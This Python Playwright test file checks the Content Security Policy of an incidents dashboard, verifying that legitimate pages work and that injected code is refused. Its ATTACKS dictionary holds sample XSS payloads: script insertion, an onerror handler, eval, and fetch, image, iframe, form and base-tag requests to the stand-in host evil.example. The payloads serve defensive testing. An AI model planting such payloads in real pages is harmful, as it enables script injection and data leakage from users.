"""No page needs what its policy forbids, and the policy forbids what a stranger's script needs."""

from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from tests.browser.dashboard import (
    PATIENCE_MS,
    in_map,
    is_outside,
    link_to,
    map_frame,
    open_page,
    turn_to,
    wait_for_map,
    wait_in_map,
    wait_settled,
    watch_page,
)

AIN_AL_ASAD = "IQ-2021-07-07-AIN-AL-ASAD-1"
ODD = "Day of it;Spot;Fallen\n2020-03-01;Hit;2\n2020-03-02;Erbil;\n"
StartServer = Callable[..., AbstractContextManager[str]]
NewReader = Callable[..., Page]


def open_tab(page: Page, name: str) -> None:
    page.get_by_role("tab", name=name, exact=True).click()
    wait_settled(page)


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_page_is_refused_anything(server: str, new_reader: NewReader, theme: str) -> None:
    page = new_reader(color_scheme=theme)  # it fails if anything is refused
    open_page(page, link_to(server, "", incident=AIN_AL_ASAD))
    wait_for_map(page)
    in_map(page).get_by_role("button", name="Play through time").click()
    wait_in_map(page, "() => liveLayer.player && liveLayer.playing")
    in_map(page).get_by_role("button", name="Pause").click()
    for view in ("Density", "Governorates", "Change"):
        page.locator(".st-key-views").get_by_text(view, exact=True).click()
        wait_settled(page)
    for name in ("Timeline", "Casualties"):
        turn_to(page, name)
        if name == "Timeline":
            page.locator(".st-key-timeline .marks").hover()
        expect(page.get_by_test_id("stVegaLiteChart").first).to_be_visible(timeout=PATIENCE_MS)
    turn_to(page, "About")
    open_page(page, link_to(server, "incident", incident=AIN_AL_ASAD))
    wait_for_map(page, "known to the site")


def test_the_data_page_is_refused_nothing(server: str, page: Page, tmp_path: Path) -> None:
    table = tmp_path / "odd.csv"
    table.write_text(ODD, "utf-8")
    open_page(page, f"{server}/data")
    expect(page.get_by_test_id("stDataFrame")).to_be_visible(timeout=PATIENCE_MS)
    for name in ("Places matched", "Review", "Versions", "Bring a table"):
        open_tab(page, name)
    page.locator('input[type="file"]').set_input_files(table)
    expect(page.get_by_text("Check which column holds what")).to_be_visible(timeout=PATIENCE_MS)
    page.get_by_role("button", name="Share").click()
    page.get_by_role("button", name="Copy link").click()


def test_a_chart_is_saved_and_a_picture_shown(server: str, page: Page) -> None:
    open_page(page, link_to(server, "casualties", by="Actor"))
    for kind in ("PNG", "SVG"):
        with page.expect_download(timeout=PATIENCE_MS):
            page.get_by_label(f"Killed by actor: save as {kind}", exact=True).click()
    page.goto(f"{server}/api/picture.png")
    assert page.evaluate("() => document.images[0].naturalWidth") == 1200


ATTACKS = {
    "script": "document.body.append(Object.assign(document.createElement('script'),"
    " {textContent: 'window.ran = 1'}))",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran=1>')",
    "eval": "try { window.ran = eval('1') } catch (error) { console.error(`${error}`) }",
    "elsewhere": "new Image().src = 'http://evil.example/x.png'",
    "fetch": "fetch('http://evil.example/x').catch(() => 0)",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: 'http://evil.example/'}))",
    "form": "Object.assign(document.body.appendChild(document.createElement('form')),"
    " {action: 'http://evil.example/'}).submit()",
    "base": "document.head.append(Object.assign(document.createElement('base'),"
    " {href: 'http://evil.example/'}))",
    "object": "document.body.append(Object.assign(document.createElement('object'),"
    " {data: '/favicon.png'}))",
}


def list_left(tab: Page) -> list[str]:
    """What goes to another machine from now on; not what the browser itself holds back."""
    left: list[str] = []

    def note(sent: Request) -> None:
        if is_outside(sent.url) and sent.failure != "csp":
            left.append(f"{sent.url} {sent.failure}")

    tab.on("requestfailed", note)
    tab.on("requestfinished", note)
    return left


@pytest.mark.parametrize("name", ATTACKS)
def test_what_got_into_a_page_may_do_nothing(server: str, desk: BrowserContext, name: str) -> None:
    tab = desk.new_page()
    tab.set_default_timeout(PATIENCE_MS)
    tab.goto(f"{server}/about")
    watch, left = watch_page(tab), list_left(tab)
    # Called as the browser's own console would: what it writes is judged by the page's policy.
    tab.evaluate(f"() => {{ setTimeout(() => {{ {ATTACKS[name]} }}) }}")
    for _ in range(200):
        if watch.refused:
            break
        tab.evaluate("() => new Promise(requestAnimationFrame)")
    assert len(watch.refused) >= 1
    assert tab.evaluate("() => window.ran") is None
    assert left == []
    tab.close()


def test_the_frame_of_the_map_sends_nothing_elsewhere(server: str, desk: BrowserContext) -> None:
    tab = desk.new_page()
    open_page(tab, server)
    wait_for_map(tab)
    watch, left = watch_page(tab), list_left(tab)
    # Its scripts are text, so that it runs them; they reach nobody.
    map_frame(tab).evaluate(f"() => {{ {ATTACKS['fetch']}; {ATTACKS['elsewhere']} }}")
    for _ in range(200):
        if len(watch.refused) >= 2:
            break
        tab.evaluate("() => new Promise(requestAnimationFrame)")
    told = " ".join(watch.refused)
    assert "connect-src" in told and "img-src" in told
    assert left == []
    tab.close()


def test_tiles_only_where_the_host_lets_them(
    start_server: StartServer, desk: BrowserContext
) -> None:
    tab = desk.new_page()
    tiles: list[str] = []
    tab.route("**/*.png", lambda route: tiles.append(route.request.url) or route.abort())
    watch = watch_page(tab)
    with start_server(env={"INCIDENTS_TILES": "osm"}) as server:
        open_page(tab, server)
        wait_for_map(tab)
        tab.close()
    assert any("tile.openstreetmap.org/" in url for url in tiles)
    assert watch.refused == []


def test_the_hosts_logo_is_shown(start_server: StartServer, new_reader: NewReader) -> None:
    icon = Path(__file__).resolve().parents[2] / "parts" / "chrome" / "icon.svg"
    with start_server(env={"INCIDENTS_LOGO": str(icon), "INCIDENTS_OWNER": "The Desk"}) as server:
        page = new_reader()
        open_page(page, f"{server}/about")
        logo = page.get_by_test_id("stSidebarLogo")
        expect(logo).to_be_visible()
        assert logo.evaluate("image => image.naturalWidth") > 0
        expect(page.get_by_text("The Desk runs this dashboard")).to_be_visible()


def test_a_brief_needs_no_more_than_it_may(server: str, page: Page) -> None:
    page.goto(f"{server}/api/brief.html")
    expect(page.get_by_role("heading", level=1)).to_contain_text("All incidents")
    assert page.locator("svg").first.evaluate("each => getComputedStyle(each).display") != "none"


def test_a_page_is_framed_by_its_own_host_and_those_it_names(
    server: str, start_server: StartServer, desk: BrowserContext
) -> None:
    tab = desk.new_page()
    tab.route("http://localhost:1/", lambda route: route.fulfill(body="", content_type="text/html"))

    def frame(address: str) -> str:
        tab.goto("http://localhost:1/")
        tab.evaluate(
            "address => new Promise(done => document.body.append(Object.assign("
            "document.createElement('iframe'), { src: address, onload: done })))",
            f"{address}/about",
        )
        return tab.frames[-1].url

    assert frame(server).startswith("chrome-error:")
    with start_server(env={"INCIDENTS_EMBEDDERS": "http://localhost:1"}) as embedded:
        assert frame(embedded) == f"{embedded}/about"
    tab.close()
